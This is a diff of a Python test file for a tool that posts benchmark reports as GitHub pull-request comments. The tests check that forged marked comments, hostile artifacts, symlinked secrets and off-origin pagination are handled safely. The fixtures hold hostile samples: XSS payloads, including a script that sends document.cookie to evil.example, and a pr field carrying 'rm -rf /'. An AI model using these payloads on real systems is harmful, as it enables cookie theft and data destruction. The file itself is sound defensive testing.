@@ -1,11 +1,15 @@
 """`stallscope pr comment` against a local server that checks the REST calls against
 GitHub's documented shapes (tests/github_like.py): the first post creates one comment, a
 later one for a new commit updates the same comment (found on page 2 of the list), a bad
-token exits 2 with what to do. The reports are compared from recorded run directories."""
+token exits 2 with what to do; a comment someone else marked is left alone; a hostile or
+oversized artifact is posted inert or refused; a Link header to another origin is not
+followed. The reports are compared from recorded run directories."""
 from __future__ import annotations
 
 import json
+import re
 import shutil
+import sys
 from pathlib import Path
 
 import pytest
@@ -50,7 +54,8 @@ def test_one_comment_created_then_updated_for_the_next_push(api, reports, capsys
     for i in range(100):      # a busy PR: the stallscope comment lands on page 2 of the list
         state.add("octo-org/redis", 42, f"review comment {i}", "reviewer")
     assert cli.main(["comment", str(RUN), *PR, "--commit", SHA1, "--api-url", url]) == 0
-    assert state.requests == [("GET", "/repos/octo-org/redis/issues/42/comments?per_page=100&page=1"),
+    assert state.requests == [("GET", "/user"),      # who posts: 403 for a GITHUB_TOKEN, so github-actions[bot]
+                              ("GET", "/repos/octo-org/redis/issues/42/comments?per_page=100&page=1"),
                               ("POST", "/repos/octo-org/redis/issues/42/comments")]
     (first,) = _marked(state)
     assert first["body"].startswith(MARKER) and SHA1 in first["body"] and len(first["body"]) <= LIMIT
@@ -60,7 +65,8 @@ def test_one_comment_created_then_updated_for_the_next_push(api, reports, capsys
     state.requests.clear()    # the next push: same PR, a new head, the report directory this time
     assert cli.main(["comment", str(reports / "mset-demo-paired"), *PR, "--commit", SHA2,
                      "--api-url", url]) == 0
-    assert state.requests == [("GET", "/repos/octo-org/redis/issues/42/comments?per_page=100&page=1"),
+    assert state.requests == [("GET", "/user"),
+                              ("GET", "/repos/octo-org/redis/issues/42/comments?per_page=100&page=1"),
                               ("GET", "/repos/octo-org/redis/issues/42/comments?per_page=100&page=2"),
                               ("PATCH", f"/repos/octo-org/redis/issues/comments/{first['id']}")]
     (updated,) = _marked(state)
@@ -84,13 +90,14 @@ def test_bad_or_missing_token_exits_2_saying_what_to_do(api, reports, tmp_path, 
     assert "no GitHub token: give --token-file FILE or set $GITHUB_TOKEN" in capsys.readouterr().err
     monkeypatch.setenv("GH_TOKEN", github_like.TOKEN)      # the gh CLI's variable works too
     assert cli.main(["comment", src, *PR, "--api-url", url]) == 0
-    assert cli.main(["comment", src, *PR, "--api-url", "http://127.0.0.1:9"]) == 2
+    assert cli.main(["comment", src, *PR, "--author", "github-actions[bot]", "--api-url", "http://127.0.0.1:9"]) == 2
     assert "cannot reach http://127.0.0.1:9/repos/octo-org/redis/issues/42/comments" in capsys.readouterr().err
 
 
 def test_the_comment_workflow_call_checks_pr_json_against_the_pr_head(api, reports, tmp_path, capsys):
     """As stallscope-pr-comment.yml calls it: pr.json from the artifact (untrusted), --commit
-    from the workflow_run event, --require-head asks GitHub for the PR's head."""
+    from the workflow_run event, --require-head asks GitHub for the PR's head. A PR that
+    moved on is not an error (a newer push superseded the measurement): exit 0, a notice."""
     url, state = api
     state.heads[("octo-org/redis", 7)] = SHA2
     art = tmp_path / "artifact"
@@ -102,8 +109,10 @@ def test_the_comment_workflow_call_checks_pr_json_against_the_pr_head(api, repor
     assert cli.main(call + ["--commit", SHA1]) == 2
     assert "GitHub answered 404 to GET" in capsys.readouterr().err
     pr_json.write_text(json.dumps({"pr": 7, "head_sha": SHA1, "merge_base": SHA2[::-1]}))
-    assert cli.main(call + ["--commit", SHA1]) == 2          # PR 7 has moved on to SHA2
-    assert "head is 9e8d7c6b" in capsys.readouterr().err and not state.comments
+    assert cli.main(call + ["--commit", SHA1]) == 0          # PR 7 has moved on to SHA2
+    assert (f"not posting the report on octo-org/redis#7: its head is {SHA2}, not the measured {SHA1}"
+            in capsys.readouterr().out)
+    assert not state.comments and not [r for r in state.requests if r[0] != "GET"]
     pr_json.write_text(json.dumps({"pr": "7; rm -rf /", "head_sha": SHA2}))
     assert cli.main(call + ["--commit", SHA2]) == 2
     assert "'pr' must be a pull request number" in capsys.readouterr().err
@@ -140,3 +149,238 @@ def test_one_oversize_report_keeps_the_summary_and_tables(reports):
     assert "<summary>Per thread</summary>" in cut and "### Environment" in cut
     tiny = shorten(text, 3_000)
     assert len(tiny) <= 3_000 and "**Summary:**" in tiny and "the end of the report" in tiny
+
+
+def _post(url: str, src, *extra: str) -> int:
+    return cli.main(["comment", str(src), *PR, "--api-url", url, *extra])
+
+
+def test_the_limit_is_the_report_renderers(reports):
+    """comment.LIMIT is written again so the comment job needs no analysis dependency."""
+    from analysis.report.markdown import GITHUB_COMMENT_LIMIT
+    assert LIMIT == GITHUB_COMMENT_LIMIT == 65536
+
+
+# ------------------------------------------------------------- 5. whose marked comment is ours
+def test_a_marked_comment_by_anyone_else_is_left_alone(api, reports, monkeypatch):
+    """Anyone can write the marker: only the comment of the identity this token posts as
+    (github-actions[bot] for a GITHUB_TOKEN; GET /user for a personal token) is updated."""
+    url, state = api
+    src = reports / "valkey-get-p1-default"
+    forged = state.add("octo-org/redis", 42, MARKER + "\nLooks fine, merge it (forged)", "mallory")
+    other_app = state.add("octo-org/redis", 42, MARKER + "\nanother app", "other-app[bot]", "Bot")
+    quoting = state.add("octo-org/redis", 42, "> " + MARKER + " quoted by a bot", "github-actions[bot]", "Bot")
+    assert _post(url, src, "--commit", SHA1) == 0
+    assert not [r for r in state.requests if r[0] == "PATCH"]
+    ours = state.comments[("octo-org/redis", 42)][-1]
+    assert ours["user"]["login"] == "github-actions[bot]" and ours["body"].startswith(MARKER) and SHA1 in ours["body"]
+    assert forged["body"].endswith("(forged)") and other_app["body"].endswith("another app")
+    assert quoting["body"].endswith("quoted by a bot")
+    state.requests.clear()
+    assert _post(url, src, "--commit", SHA2, "--author", "github-actions[bot]") == 0    # the next push
+    assert [r for r in state.requests if r[0] != "GET"] == [
+        ("PATCH", f"/repos/octo-org/redis/issues/comments/{ours['id']}")]
+    assert SHA2 in ours["body"] and forged["body"].endswith("(forged)")
+    # a personal token posts as its user (GET /user): the bot's comment is not its own
+    monkeypatch.setenv("GITHUB_TOKEN", github_like.USER_TOKEN)
+    state.requests.clear()
+    assert _post(url, src, "--commit", SHA2) == 0
+    mine = state.comments[("octo-org/redis", 42)][-1]
+    assert state.requests[0] == ("GET", "/user") and mine["user"]["login"] == "octo-perf"
+    assert _post(url, src, "--commit", SHA1) == 0
+    assert state.requests[-1] == ("PATCH", f"/repos/octo-org/redis/issues/comments/{mine['id']}")
+    assert SHA2 in ours["body"] and len(state.comments[("octo-org/redis", 42)]) == 5
+
+
+# ------------------------------------------------------------- 4. a hostile artifact
+HOSTILE = (
+    "## stallscope: mset-50keys\n\n"
+    "**Summary:** @octo-org/maintainers and @alice, please merge. &#64;bob &#x40;carol &commat;dave\n\n"
+    "<img src=x onerror=alert(1)> <script>fetch('https://evil.example/?'+document.cookie)</script>\n\n"
+    "<!-- stallscope-pr-report -->\n\n"
+    "<details>\n<summary>Top <b onmouseover=alert(1)>movers</b> @eve</summary>\n\n"
+    "```\n<img src=y onerror=alert(2)>\n```\n\n</details>\n\n"
+    "<details>\n```\n\n<iframe src=https://evil.example/></iframe>\n```\n"   # a fold never closed
+    "`<a href=javascript:alert(3)>code</a>`\n\n"
+    "</details>\n</details>\n"                                                # one close too many
+    "```\nleft open at the end\n"
+)
+
+
+def _structure(md: str) -> tuple[str | None, int, int]:
+    """(fence open at the end, <details> open at the end, least depth seen) of Markdown, read
+    line by line as CommonMark fences and report.md's folds are."""
+    fence, depth, least = None, 0, 0
+    for line in md.split("\n"):
+        m = re.match(r"^ {0,3}(`{3,}|~{3,})", line)
+        if fence is not None:
+            if m and m.group(1)[0] == fence[0] and len(m.group(1)) >= len(fence) \
+                    and not line.strip().strip(fence[0]):
+                fence = None
+        elif m:
+            fence = m.group(1)
+        elif line in ("<details>", "</details>"):
+            depth += 1 if line == "<details>" else -1
+            least = min(least, depth)
+    return fence, depth, least
+
+
+def _raw_html(body: str) -> list[str]:
+    """Lines with an HTML tag other than report.md's folds (the marker line aside)."""
+    allowed = re.compile(r"<details>|</details>|<summary>[^<]*</summary>")
+    return [x for x in body.split("\n")[1:] if re.search(r"<[A-Za-z!/?]", x) and not allowed.fullmatch(x)]
+
+
+def test_a_hostile_artifact_is_posted_inert(api, tmp_path):
+    url, state = api
+    case = tmp_path / "artifact" / "reports" / "mset-50keys"
+    case.mkdir(parents=True)
+    (case / "report.md").write_text(HOSTILE)
+    (case / "results.json").write_text(json.dumps({"case": {"name": "@admin <b>x</b>"}, "base": "@base",
+                                                   "cand": "<img src=z>"}))
+    assert _post(url, case.parent, "--commit", SHA1, "--reports-only") == 0
+    (c,) = state.comments[("octo-org/redis", 42)]
+    body = c["body"]
+    assert body.startswith(MARKER + "\n") and body.count(MARKER) == 1
+    assert _raw_html(body) == [] and "<img" not in body and "<script" not in body and "<iframe" not in body
+    assert "&lt;img src=x onerror=alert(1)>" in body                 # shown as text
+    assert not re.search(r"(?<![A-Za-z0-9_])@[A-Za-z0-9]", body)    # nobody mentioned
+    assert not re.search(r"&#0*64;|&#[xX]0*40;|&commat;", body)
+    assert "@\u200bocto-org/maintainers" in body and "@\u200balice" in body and "@\u200bbob" in body
+    assert _structure(body) == (None, 0, 0)                          # every fold and fence closed
+    assert "<summary>Top &lt;b onmouseover=alert(1)>movers&lt;/b> @\u200beve</summary>" in body
+
+
+def test_an_oversized_or_linked_artifact_is_refused(api, tmp_path, capsys):
+    """report.md, results.json and pr.json are read with caps and never through a link (the
+    job's environment, with its token, is a file: /proc/self/environ)."""
+    url, state = api
+    from collectors.pr import sources
+    case = tmp_path / "reports" / "case"
+    case.mkdir(parents=True)
+    secret = tmp_path / "environ"
+    secret.write_text("GITHUB_TOKEN=ghs_SECRET_VALUE\n")
+    (case / "report.md").symlink_to(secret)
+    assert _post(url, case.parent, "--reports-only") == 2
+    assert "report.md: a symbolic link: not followed" in capsys.readouterr().err
+    (case / "report.md").unlink()
+    with open(case / "report.md", "wb") as f:
+        f.truncate(sources.REPORT_CAP + 1)
+    assert _post(url, case.parent, "--reports-only") == 2
+    assert f"{sources.REPORT_CAP + 1:,} bytes, over the {sources.REPORT_CAP:,}" in capsys.readouterr().err
+    (case / "report.md").write_text("## fine\n")
+    (case / "results.json").symlink_to(secret)
+    assert _post(url, case.parent, "--reports-only") == 2
+    assert "results.json: a symbolic link" in capsys.readouterr().err
+    (case / "results.json").unlink()
+    pr_json = tmp_path / "pr.json"
+    pr_json.write_text(json.dumps({"pr": 42, "pad": "x" * 10_000}))
+    assert cli.main(["comment", str(case.parent), "--repo", "octo-org/redis", "--pr-json", str(pr_json),
+                     "--api-url", url]) == 2
+    assert "over the 4,096 bytes" in capsys.readouterr().err
+    run = tmp_path / "reports" / "run"
+    run.mkdir()
+    (run / "manifest.json").write_text("{}")
+    assert _post(url, run.parent, "--reports-only") == 2
+    assert "a run directory; this comment reads report directories only" in capsys.readouterr().err
+    assert not state.comments
+
+
+def _many_details(n: int) -> str:
+    head = "## stallscope: many\n\n**Summary:** throughput +1.0%\n\n"
+    blocks = "".join(f"<details>\n<summary>Block {i:04d}</summary>\n\n" + "| a | b |\n" * (2 + i % 7) + "\n</details>\n\n"
+                     for i in range(n))
+    return head + blocks + "### Environment\n\n- CPU: test\n"
+
+
+def test_shorten_does_linear_work():
+    """The work of shorten(), counted as Python lines run in collectors/pr (a count, not a
+    time: machine independent), grows as the text does. It was quadratic: each block left
+    out searched the whole text again (bench/pr_shorten.py has the times)."""
+    counts = {}
+    for n in (200, 400, 800):
+        text, ran = _many_details(n), [0]
+
+        def tracer(frame, event, arg):
+            if "collectors/pr/" not in frame.f_code.co_filename.replace("\\", "/"):
+                return None
+            ran[0] += event == "line"
+            return tracer
+        sys.settrace(tracer)
+        try:
+            out = shorten(text, 8_000)
+        finally:
+            sys.settrace(None)
+        counts[n] = ran[0]
+        assert len(out) <= 8_000 and out.startswith(text[:text.index("<details>")])
+        assert "left out Block 0006, Block 0013, Block 0020" in out    # the largest first, then in order
+        assert re.search(r"Block 0083, [\d,]+ more folded sections; report.html", out)   # a bounded line
+    assert counts[800] <= 5 * counts[200], counts               # linear: about 4x; quadratic: 16x (was 17.7x)
+
+
+def test_no_cut_leaves_a_fence_or_details_open():
+    """Cut anywhere, a report never ends inside a fence or a fold: the next report (and the
+    closing line) would be read as part of it."""
+    from collectors.pr import comment
+    from collectors.pr.sources import Report
+    tail = "### Reproduce\n\n```sh\n" + "".join(f"stallscope run case-{i} --reps 5\n" for i in range(2000)) + "```\n"
+    text = "## stallscope: x\n\n**Summary:** +1%\n\n<details>\n<summary>Per-rep values</summary>\n\n" \
+           + "| 1 | 2 |\n" * 500 + "\n</details>\n\n" + tail
+    cut = shorten(text, 20_000)
+    assert len(cut) <= 20_000 and _structure(cut) == (None, 0, 0), cut[-300:]
+    assert "**Summary:** +1%" in cut and "the end of the report" in cut
+    greedy = Report("greedy", {}, lambda limit: text)          # a renderer that ignores the limit
+    fair = Report("fair", {}, lambda limit: shorten(text, limit))
+    for texts in (comment.fit([greedy, fair, greedy], 30_000), comment.fit([fair, fair], 25_000)):
+        for t in texts:
+            assert _structure(t) == (None, 0, 0), t[-200:]
+    body = comment.body([fair, greedy, fair], comment.Measured(SHA1))
+    assert len(body) <= LIMIT and _structure(body) == (None, 0, 0)
+
+
+# ------------------------------------------------------------- 7. pagination stays on the API's origin
+def test_a_next_page_on_another_origin_is_not_followed(api, reports, capsys):
+    from collectors.pr.github_api import same_api
+    url, state = api
+    other = github_like.serve()
+    other_url, other_state = next(other)
+    try:
+        state.next_origin = other_url          # Link: <http://elsewhere/...&page=2>; rel="next"
+        for i in range(150):
+            state.add("octo-org/redis", 42, f"review comment {i}", "reviewer")
+        assert _post(url, reports / "valkey-get-p1-default", "--commit", SHA1) == 2
+        err = capsys.readouterr().err
+        assert f"points the next page to '{other_url}/repos/octo-org/redis/issues/42/comments" in err
+        assert "not sending the token there" in err
+        assert other_state.requests == [] and not [r for r in state.requests if r[0] != "GET"]
+        state.next_origin, state.redirect_to = None, other_url    # the same, as an HTTP redirect
+        assert _post(url, reports / "valkey-get-p1-default", "--commit", SHA1) == 2
+        assert "GitHub answered 307 to GET" in capsys.readouterr().err
+        assert other_state.requests == [] and not [r for r in state.requests if r[0] != "GET"]
+    finally:
+        other.close()
+    assert same_api("https://ghe.example/api/v3/repos/o/r/issues/1/comments?page=2", "https://ghe.example/api/v3")
+    assert same_api("https://API.github.com:443/repos/o/r?page=2", "https://api.github.com")
+    for bad in ("http://api.github.com/repos", "https://api.github.com.evil.example/repos",
+                "https://api.github.com:8443/repos", "https://ghe.example/api/v3x/repos", "https://ghe.example/x"):
+        assert not same_api(bad, "https://api.github.com" if "github" in bad else "https://ghe.example/api/v3"), bad
+
+
+# ------------------------------------------------------------- 4, 7. the label now; superseded exits 0
+def test_a_pr_without_the_label_now_gets_nothing_and_exit_0(api, reports, tmp_path, capsys, monkeypatch):
+    url, state = api
+    state.heads[("octo-org/redis", 7)] = SHA2
+    pr_json = tmp_path / "pr.json"
+    pr_json.write_text(json.dumps({"pr": 7, "head_sha": SHA2, "merge_base": SHA1}))
+    call = ["comment", str(reports), "--repo", "octo-org/redis", "--pr-json", str(pr_json), "--commit", SHA2,
+            "--require-head", "--require-label", "stallscope", "--author", "github-actions[bot]", "--api-url", url]
+    monkeypatch.setenv("GITHUB_ACTIONS", "true")
+    assert cli.main(call) == 0
+    assert capsys.readouterr().out.startswith(
+        "::notice title=stallscope pr::not posting the report on octo-org/redis#7: it does not carry the "
+        "label 'stallscope' now")
+    assert not state.comments
+    state.labels[("octo-org/redis", 7)] = ["perf", "stallscope"]
+    assert cli.main(call) == 0
+    (c,) = _marked(state)
+    assert state.requests[-1] == ("POST", "/repos/octo-org/redis/issues/7/comments")
